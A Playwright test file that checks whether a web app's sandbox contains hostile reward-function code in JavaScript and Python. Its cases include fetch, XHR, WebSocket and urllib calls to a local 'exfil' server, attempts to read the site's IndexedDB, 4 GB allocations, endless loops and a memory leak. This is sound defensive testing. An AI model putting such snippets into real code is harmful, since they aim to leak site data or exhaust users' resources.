/**
 * Hostile reward code, in both languages, against the sandbox of docs/security.md. Each case is run
 * by the editor's "Check" (the same sandbox worker that training uses) and must fail inside the
 * sandbox with a clear message or be stopped; a little HTTP server records any request that gets
 * out; afterwards the saved models (read straight from IndexedDB) and the page are unchanged.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { openBrowser, type BrowserSession } from './browser';
import { openStudio, setRewardCode, trainUntilDone } from './studio-helpers';

type Language = 'javascript' | 'python';

const js = (body: string) => `function reward_function(params) {\n  ${body}\n  return 1.0;\n}`;
const py = (body: string) => `def reward_function(params):\n    ${body}\n    return 1.0\n`;

/** [name, language, code (given the exfiltration URL), what the check must show]. */
const CASES: [string, Language, (url: string) => string, RegExp][] = [
  ['reads indexedDB', 'javascript', () => js(`indexedDB.open('raceline');`), /SecurityError.*(denied|not allowed)/i],
  ['opens the Cache API', 'javascript', () => js(`caches.open('raceline');`), /ReferenceError: caches is not defined/],
  ['calls fetch', 'javascript', (u) => js(`fetch('${u}/fetch').catch(() => {});`), /On the centre line/],
  ['calls XMLHttpRequest', 'javascript', (u) => js(`const x = new XMLHttpRequest(); x.open('GET', '${u}/xhr', false); x.send();`), /NetworkError|Failed to load|Refused/],
  ['opens a WebSocket', 'javascript', (u) => js(`try { new WebSocket('${u.replace('http', 'ws')}/ws'); } catch (e) { throw new Error('WebSocket refused: ' + e.message); }`), /WebSocket refused|On the centre line/],
  ['touches document', 'javascript', () => js(`document.title = 'pwned';`), /ReferenceError: document is not defined/],
  ['touches parent', 'javascript', () => js(`parent.postMessage('pwned', '*');`), /ReferenceError: parent is not defined/],
  ['touches top', 'javascript', () => js(`top.location.href = 'about:blank';`), /ReferenceError: top is not defined/],
  ['allocates 4 GB', 'javascript', () => js(`const big = new Uint8Array(4 * 1024 ** 3); big.fill(1);`), /refused to allocate 4096 MiB at once/],
  ['loops forever', 'javascript', () => js(`while (true) {}`), /stopped after 2 s .*endless loop/],
  ['imports js and reads indexedDB', 'python', () => py(`import js; js.indexedDB.open('raceline')`), /AttributeError: indexedDB/],
  ['imports fetch from js', 'python', () => py(`from js import fetch`), /ImportError: cannot import name 'fetch' from 'js'/],
  ['opens a URL with urllib', 'python', (u) => py(`import urllib.request; urllib.request.urlopen('${u}/urllib')`), /Error/],
  ['allocates 4 GB', 'python', () => py(`data = [0.0] * (4 * 1024 ** 3 // 8)`), /MemoryError/],
];

/** Ids, names and weight checksums of every saved model, read from IndexedDB (runs in the page). */
function savedModelsInPage(): Promise<string> {
  return new Promise<string>((resolve, reject) => {
        const rq = indexedDB.open('raceline');
        rq.onerror = () => reject(rq.error);
        rq.onsuccess = () => {
          const db = rq.result;
          const tx = db.transaction(['models', 'weights'], 'readonly');
          const models = tx.objectStore('models').getAll();
          const weights = tx.objectStore('weights').getAll();
          tx.oncomplete = () => {
            db.close();
            const w = (weights.result as { modelId: string; byteLength: number; checksum: number }[]).map((r) => `${r.modelId}:${r.byteLength}:${r.checksum}`);
            const m = (models.result as { id: string; name: string }[]).map((r) => `${r.id}:${r.name}`);
            resolve(JSON.stringify({ m: m.sort(), w: w.sort() }));
          };
        };
      });
}

async function savedModels(page: Page): Promise<string> {
  return page.evaluate(savedModelsInPage);
}

async function runCheck(page: Page): Promise<string> {
  await page.getByRole('button', { name: 'Check reward function' }).click();
  const progress = page.getByTestId('reward-check-progress');
  await progress.waitFor({ state: 'attached', timeout: 10_000 });
  await progress.waitFor({ state: 'detached', timeout: 60_000 });
  return (await page.getByTestId('reward-check-result').textContent()) ?? '';
}

describe('hostile reward code stays in the sandbox', () => {
  const baseUrl = inject('baseUrl');
  let session: BrowserSession;
  let server: http.Server;
  let exfil = '';
  const hits: string[] = [];
  let before = '';

  beforeAll(async () => {
    // Answers anything, CORS-permissively, so that a request the browser lets out would succeed and be seen.
    server = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
      res.end('leaked');
    });
    server.on('upgrade', (req, socket) => {
      hits.push(`UPGRADE ${req.url}`);
      socket.destroy();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    exfil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

    session = await openBrowser();
    await openStudio(session.page, baseUrl);
  });
  afterEach(() => {
    expect(hits).toEqual([]);
  });
  afterAll(async () => {
    await session?.close();
    server?.close();
  });

  it('trains a model to keep (the saved model every case below must leave intact)', async () => {
    const { page } = session;
    await page.getByLabel('Model name').fill('kept-model');
    await setRewardCode(page, js('if (params.distance_from_center > 0.25 * params.track_width) return 0.01;'));
    expect(await trainUntilDone(page)).toMatch(/stopped/);
    await expect.poll(() => page.getByTestId('model-item').count(), { timeout: 30_000 }).toBe(1);
    before = await savedModels(page);
  });

  it.each(CASES)('%s (%s) fails inside the sandbox with a clear message', async (_name, language, code, expected) => {
    const { page } = session;
    await setRewardCode(page, code(exfil), language);
    expect(await runCheck(page)).toMatch(expected);
    await page.waitForTimeout(300); // let any request that got out arrive
    expect(await savedModels(page)).toBe(before);
    expect(await page.title()).toMatch(/Raceline/);
    expect(await page.getByTestId('train').isEnabled()).toBe(true);
  });

  it('training with code that tries the network and the site data on every step runs, laps, and leaks nothing', async () => {
    const { page } = session;
    await page.getByLabel('Model name').fill('hostile-but-harmless');
    const code = `function reward_function(params) {
  fetch('${exfil}/train').catch(() => {});
  try { indexedDB.open('raceline'); } catch (e) { /* SecurityError in the sandbox */ }
  return params.distance_from_center <= 0.25 * params.track_width ? 1.0 : 0.01;
}`;
    await setRewardCode(page, code);
    expect(await trainUntilDone(page)).toMatch(/stopped/);
    await expect.poll(() => page.getByTestId('model-item').count(), { timeout: 30_000 }).toBe(2);
    expect(await page.getByTestId('training-evaluation').textContent()).toMatch(/3 of 3 trials lapped/);
    await page.waitForTimeout(300);
    // The first model is untouched; the new one was added beside it.
    const after = JSON.parse(await savedModels(page)) as { m: string[]; w: string[] };
    const old = JSON.parse(before) as { m: string[]; w: string[] };
    for (const m of old.m) expect(after.m).toContain(m);
    for (const w of old.w) expect(after.w).toContain(w);
    before = JSON.stringify(after);
  });

  it('a reward function that leaks memory on every call takes down only its sandbox: training stops with a message, the model and the page are intact', async () => {
    const { page, context } = session;
    await page.getByLabel('Model name').fill('');
    // 32 MB more on every call: the sandbox's process runs out of memory within a few hundred calls.
    await setRewardCode(page, `const kept = [];
function reward_function(params) {
  kept.push(new Array(4e6).fill(params.steps + 0.5));
  return 1.0;
}`);
    // The sandbox frame has its own renderer process. When it dies, Playwright marks the whole page as
    // crashed (it treats any crashed frame target so) and refuses page.evaluate, although the page lives
    // on: from here on the test reads the page through a CDP session of its own.
    const cdp = await context.newCDPSession(page);
    const read = async <T>(expression: string): Promise<T> => {
      const r = await cdp.send('Runtime.evaluate', { expression, returnByValue: true, awaitPromise: true });
      if (r.exceptionDetails) throw new Error(`in the page: ${r.exceptionDetails.text}`);
      return r.result.value as T;
    };
    await page.getByTestId('train').click();
    const text = (id: string) => `document.querySelector('[data-testid=${id}]')?.textContent ?? ''`;
    const deadline = Date.now() + 180_000;
    let status = '';
    while (Date.now() < deadline && !/stopped|failed/.test(status)) {
      await new Promise((r) => setTimeout(r, 500));
      status = await read<string>(text('status'));
    }
    expect(status).toMatch(/failed/);
    // Which message comes depends on timing: usually the process dies inside a call (the sandbox stops
    // answering); on a loaded machine one call can instead spend over 2 s collecting garbage and return,
    // after which no more calls come and the process lives. Either way the message names memory.
    expect(await read<string>(text('notice'))).toMatch(
      /sandbox stopped answering .*too much memory|did not return within 2 s.*memory running short because a list or string keeps growing/,
    );
    expect(await read<boolean>(`!document.querySelector('[data-testid=train]').disabled`)).toBe(true);
    expect(await read<string>(`(${savedModelsInPage.toString()})()`)).toBe(before);
  });
});
